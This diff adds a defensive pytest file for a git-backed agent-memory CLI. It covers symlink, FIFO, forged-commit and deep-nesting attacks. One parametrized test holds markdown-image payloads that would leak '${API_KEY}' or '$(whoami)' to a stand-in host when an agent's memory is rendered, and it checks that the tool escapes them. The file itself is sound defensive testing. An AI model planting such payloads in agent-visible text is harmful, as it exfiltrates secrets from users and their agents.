@@ -1,0 +1,148 @@
+"""What the last list of a hundred attacks found, and what was left over before it."""
+
+import os
+import resource
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from memcli.text.controls import quoted
+from tests.conftest import Project
+
+pytestmark = pytest.mark.process
+ENDLESS = ["packed-refs", "commondir", "shallow", "objects/info/alternates", "config"]
+
+
+@pytest.fixture
+def kept(project: Project) -> Project:
+    """A repository with one entry and one commit."""
+    project.write("MEMORY.md", project.entry("Cart total", "It is kept in cents."))
+    project.git("add", "-A")
+    project.git("commit", "-qm", "true words about the cart")
+    return project
+
+
+@pytest.mark.parametrize("name", ENDLESS)
+def test_git_is_not_asked_where_it_would_read_without_an_end(kept: Project, name: str):
+    """A link to a device in the place of a file of git's own: git fills the memory."""
+    path = kept.root / ".git" / name
+    path.parent.mkdir(exist_ok=True)
+    path.unlink(missing_ok=True)
+    os.symlink("/dev/zero", path)
+    begun = time.monotonic()
+    for words in (["index"], ["index", "--history"], ["recall", "cart total"]):
+        assert kept.shell(*words).code in (0, 1, 3)
+    assert time.monotonic() - begun < 60
+    largest = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
+    assert largest < 400 * 1024  # KB; it was 5 GB
+
+
+def test_a_commit_is_shown_as_it_was_written(kept: Project):
+    """A replacement of git's, which anybody may bring, does not put words under the
+    hash of another commit."""
+    written = kept.git("rev-parse", "HEAD").strip()
+    kept.git("commit", "-q", "--allow-empty", "-m", "forged words about the cart")
+    forged = kept.git("rev-parse", "HEAD").strip()
+    kept.git("reset", "-q", "--hard", written)
+    kept.git("replace", written, forged)
+    kept.mem("index", "--history")
+    shown = kept.mem("show", f"c:{written[:9]}")
+    assert "true words" in shown.out and "forged" not in shown.out
+
+
+@pytest.mark.parametrize("verb", ["show", "retire", "log", "restore"])
+def test_an_argument_that_is_no_text_names_nothing(kept: Project, verb: str):
+    done = subprocess.run(
+        [sys.executable, "-m", "memcli", verb, "--", b"\xff"],
+        cwd=kept.root,
+        capture_output=True,
+        check=False,
+    )
+    assert done.returncode == 2
+    assert b"hint:" in done.stderr
+
+
+@pytest.mark.parametrize(
+    ("line", "shown"),
+    [
+        (
+            "![a](https://e/p.png?k=${API_KEY})",
+            "> \\![a](https://e/p.png?k=${API_KEY})",
+        ),
+        ("see![a](https://e/$(whoami))", "> see\\![a](https://e/$(whoami))"),
+        ("![a][r] and `![code](x)`", "> \\![a][r] and `![code](x)`"),
+        ("vec![1, 2] is code", "> vec![1, 2] is code"),
+    ],
+)
+def test_an_image_is_text(line: str, shown: str):
+    """Where it is shown an image is fetched, from an address that may carry what the
+    agent knows."""
+    assert quoted(line) == shown
+
+
+def test_a_lock_that_git_left_is_named(kept: Project):
+    lock = kept.write(".git/index.lock", "")
+    assert "a lock of git" not in kept.mem("doctor").out
+    os.utime(lock, (1, 1))
+    told = kept.mem("doctor", "--fix").out
+    assert "a lock of git's" in told and "index.lock" in told
+    assert lock.exists()  # what it was about git alone knows
+
+
+def test_an_export_follows_links_inside_the_root_alone(kept: Project):
+    kept.write("docs/agents.md", "# Agents\n")
+    inside = kept.root / "CLAUDE.md"
+    os.symlink("docs/agents.md", inside)
+    words = ("export", "--target", "claude", "--out")
+    assert kept.mem(*words, "CLAUDE.md").code == 0
+    assert inside.is_symlink()
+    assert "Cart total" in Path(kept.root / "docs/agents.md").read_text()
+    outside = kept.write("~/mine.md", "keep\n")
+    os.symlink(outside, kept.root / "AGENTS.md")
+    assert kept.mem(*words, "AGENTS.md").code == 5
+    os.symlink(".git/config", kept.root / "GEMINI.md")
+    before = (kept.root / ".git/config").read_text()
+    assert kept.mem(*words, "GEMINI.md").code == 5
+    assert outside.read_text() == "keep\n"
+    assert (kept.root / ".git/config").read_text() == before
+
+
+def test_the_merge_driver_waits_at_no_pipe(kept: Project):
+    names = [str(kept.root / name) for name in ("base", "ours", "theirs")]
+    for name in names:
+        os.mkfifo(name)
+    words = ["merge-driver", *names, "MEMORY.md"]
+    done = subprocess.run(
+        [sys.executable, "-m", "memcli", *words],
+        cwd=kept.root,
+        capture_output=True,
+        check=False,
+        timeout=30,
+    )
+    assert done.returncode != 0 and b"Traceback" not in done.stderr
+
+
+def test_ten_thousand_nested_folders_hold_nobody_up(kept: Project):
+    above = os.open(kept.root, os.O_RDONLY)
+    for name in ["docs", "memory", *["d"] * 9_000]:
+        os.mkdir(name, dir_fd=above)
+        below = os.open(name, os.O_RDONLY, dir_fd=above)
+        os.close(above)
+        above = below
+    os.close(above)
+    try:
+        for words in (["recall", "cart total"], ["index"], ["doctor"]):
+            assert kept.shell(*words).code in (0, 1)
+    finally:  # what clears folders away goes down by recursion
+        subprocess.run(["rm", "-rf", str(kept.root / "docs")], check=True)
+
+
+def test_recall_needs_no_state_folder(kept: Project):
+    state = kept.root.parent / "a-file"
+    state.write_text("no folder")
+    env = {"XDG_STATE_HOME": str(state)}
+    assert "cents" in kept.shell("recall", "cart total", env=env).out
+    assert kept.shell("list", env=env).code == 0
